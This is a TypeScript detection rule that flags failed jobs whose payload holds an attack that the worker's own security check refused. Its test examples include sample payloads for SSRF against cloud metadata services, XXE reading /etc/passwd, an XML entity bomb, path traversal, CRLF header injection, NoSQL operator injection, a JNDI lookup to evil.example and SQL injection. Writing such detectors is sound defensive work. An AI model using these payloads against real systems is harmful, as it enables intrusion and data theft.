import type { InspectedLetter } from '../../core/inspected-letter.ts';
import { coversPointer, type Pointer } from '../../core/json-pointer.ts';
import { attackShapeOf, isOperator } from '../attack-shapes.ts';
import { ATTACK_NAMES, type AttackKind } from '../attacks/attack-kind.ts';
import { holdsCode, holdsText, namesOneThing, namesSecret, worksOnAttacks, worksOnMachines } from '../attacks/key-meaning.ts';
import { payloadValues, type PayloadValue } from '../payload-values.ts';
import { isRefusal, refusesAttack } from '../refusals.ts';
import { failureFact, type Rule } from '../rule.ts';

/** Values that are looked at; an attack needs no more. */
const MOST_VALUES = 2000;
/** A document is code all over; whether it is an attack is told by how it begins, and an address by the whole of it. */
const TOLD_BY_THE_WHOLE: ReadonlySet<AttackKind> = new Set(['address', 'entity']);

/** What jobs that work on machines ask for themselves. */
const OF_MACHINES: ReadonlySet<AttackKind> = new Set(['address', 'path']);

/** An attack that the schema admits and that the worker's own security check stopped. */
export const attackRefused: Rule = {
  name: 'attack-refused',
  why: 'Two witnesses that know nothing of each other: a value of the payload has the shape of an attack, and the worker stopped for that very reason. One of them alone is an article about attacks, or a check that errs.',
  source: 'OWASP cheat sheets on SSRF, XXE, path traversal and injection; messages of defusedxml, libxml2, Xerces, fast-xml-parser, request-filtering-agent, ssrf-req-filter, node:http and Mongoose.',
  examples: {
    for: [
      { shows: 'a metadata service', payload: { hook: 1, url: 'http://169.254.169.254/latest/meta-data/' }, stack: 'Error: Refusing to call link-local address 169.254.169.254', effects: 'external' },
      { shows: 'the same in IPv6', payload: { url: 'http://[::ffff:a9fe:a9fe]/latest/' }, stack: 'Error: Refusing to call link-local address ::ffff:169.254.169.254', effects: 'external' },
      { shows: 'the same in octal digits', payload: { url: 'http://0251.0376.0251.0376/' }, stack: 'Error: Call to 169.254.169.254 is blocked.', effects: 'external' },
      { shows: 'the metadata service of another cloud', payload: { url: 'http://metadata.google.internal/computeMetadata/v1/' }, stack: 'Error: URL host is not allowed', schema: 'absent' },
      { shows: 'a file in an entity', payload: { xml: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }, stack: 'Error: Entity declarations are not allowed' },
      { shows: 'a billion laughs', payload: { xml: '<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;"><!ENTITY d "&c;&c;&c;">]><z>&d;</z>' }, stack: 'Error: Entity expansion limit exceeded: 1012 > 1000' },
      { shows: 'a path out of the folder', payload: { key: '../../../etc/passwd' }, stack: 'Error: Path escapes the upload directory' },
      { shows: 'a header behind a line break', payload: { replyTo: 'a@example.com\r\nBcc: all@evil.example' }, stack: 'TypeError [ERR_INVALID_CHAR]: Invalid character in header content ["Reply-To"]' },
      { shows: 'an operator in place of an id', payload: { userId: { $ne: null } }, schema: 'absent', stack: `CastError: Cast to string failed for value "{ '$ne': null }" (type Object) at path "userId" for model "User"` },
      { shows: 'a look-up', payload: { agent: '${jndi:ldap://evil.example/a}' }, stack: 'Error: Lookup expressions are not allowed' },
    ],
    against: [
      { shows: 'a machine of the own network', payload: { url: 'http://n8n.internal.example:5678/hook/9' }, stack: 'Error: Refusing to call private address 10.0.4.7', effects: 'external' },
      { shows: 'the own machine', payload: { url: 'http://localhost:3000/hook' }, stack: 'Error: Refusing to call loopback address 127.0.0.1', effects: 'external' },
      { shows: 'a machine that may ask its metadata service and could not', payload: { url: 'http://169.254.169.254/latest/meta-data/instance-id' }, stack: 'Error: connect ECONNREFUSED 169.254.169.254:80' },
      { shows: 'the word of a firewall', payload: { name: "x' OR '1'='1" }, stack: 'AxiosError: Request failed with status code 403', reason: 'Request failed with status code 403: SQL Injection Attack Detected' },
      { shows: 'an article about attacks', payload: { html: "<p>Never send '; DROP TABLE users;-- from a form.</p>" }, stack: 'Error: SQL injection detected' },
      { shows: 'a ticket about one', payload: { message: "Your scanner says that x' OR '1'='1 is an injection." }, stack: 'Error: SQL injection detected' },
      { shows: 'an order in the format of a standard', payload: { xml: '<?xml version="1.0"?><!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>' }, stack: 'Error: DOCTYPE is not allowed' },
      { shows: 'a document with an entity of its own', payload: { xml: '<!DOCTYPE book [<!ENTITY firm "Quill &amp; Sons">]><book>&firm;</book>' }, stack: 'Error: Entity declarations are not allowed' },
      { shows: 'a chapter of a book', payload: { xml: '<!DOCTYPE book [<!ENTITY chapter SYSTEM "chapter1.xml">]><book>&chapter;</book>' }, stack: 'Error: External entities are not allowed' },
      { shows: 'a file of a neighbouring folder', payload: { key: '../../shared/logo.png' }, stack: 'Error: Path escapes the upload directory' },
      { shows: 'an address of several lines', payload: { address: 'Quill & Sons\r\nAttn: Nora' }, stack: 'TypeError [ERR_INVALID_CHAR]: Invalid character in header content ["X-Address"]' },
      { shows: 'the stored condition of a search', payload: { filter: { status: { $ne: null } } }, schema: 'absent', stack: 'CastError: Cast to string failed for value "x" (type Object) at path "filter" for model "Search"' },
      { shows: 'a command of a build', name: 'run-step', payload: { command: 'npm ci; rm -rf dist && curl https://files.example/x' }, stack: 'Error: Shell command not allowed' },
      { shows: 'a machine that asks for its own name', name: 'read-instance-metadata', payload: { url: 'http://169.254.169.254/latest/meta-data/hostname' }, stack: 'Error: Host 169.254.169.254 is not allowed by the proxy' },
      { shows: 'a file of a machine that is saved', name: 'backup-host', payload: { file: '/etc/passwd' }, stack: 'Error: Path is outside of the allowed folders' },
      { shows: 'what a trap has caught', queue: 'honeypot', payload: { sample: '${jndi:ldap://evil.example/a}' }, stack: 'Error: Lookup expressions are not allowed' },
      { shows: 'another failure of a letter with an attack in it', payload: { key: '../../../etc/passwd' }, stack: 'Error: read ECONNRESET' },
      { shows: 'a refusal that only quotes the attack', payload: { key: '../../../etc/passwd' }, stack: 'Error: no worker for "path traversal is not allowed"' },
      { shows: 'an error that the user knows', payload: { url: 'http://169.254.169.254/' }, stack: 'HostRefused: Refusing to call link-local address 169.254.169.254', errors: { HostRefused: 'defect' } },
    ],
  },
  match(inspected) {
    if (!isRefusal(inspected.failure)) return undefined;
    const found = findAttack(inspected);
    if (found === undefined) return undefined;
    const where = found.pointer === '' ? 'the root' : found.pointer;
    return {
      cause: 'hopeless',
      rule: 'attack-refused',
      why: `The value at ${where} is ${ATTACK_NAMES[found.kind]}, and the worker's own check stopped the job for it.`,
      evidence: [{ source: 'payload', fact: `${ATTACK_NAMES[found.kind]} at ${where}` }, failureFact(inspected.failure)],
      confidence: 'certain',
      malicious: true,
    };
  },
};

function findAttack({ letter, jobType, failure }: InspectedLetter): { readonly kind: AttackKind; readonly pointer: string } | undefined {
  if (letter.payload === undefined || worksOnAttacks(letter.name, letter.queue)) return undefined;
  const onMachines = worksOnMachines(letter.name, letter.queue);
  let looked = 0;
  for (const value of payloadValues(letter.payload)) {
    looked += 1;
    if (looked > MOST_VALUES) return undefined;
    const kind = kindOf(value);
    if (kind === undefined || !refusesAttack(failure, kind) || (onMachines && OF_MACHINES.has(kind))) continue;
    const pointer = value.pointer();
    if (!isContent(kind, value.key, pointer) && !jobType.freeText.some((pattern) => coversPointer(pattern, pointer))) return { kind, pointer };
  }
  return undefined;
}

function kindOf({ key, value }: PayloadValue): AttackKind | undefined {
  if (typeof value !== 'string') return namesOneThing(key) && isOperator(value, namesSecret(key)) ? 'database-operator' : undefined;
  return attackShapeOf(value);
}

/** True where the attack may be what the member is for. */
function isContent(kind: AttackKind, key: string, pointer: Pointer): boolean {
  return !TOLD_BY_THE_WHOLE.has(kind) && (holdsCode(pointer) || holdsText(key));
}

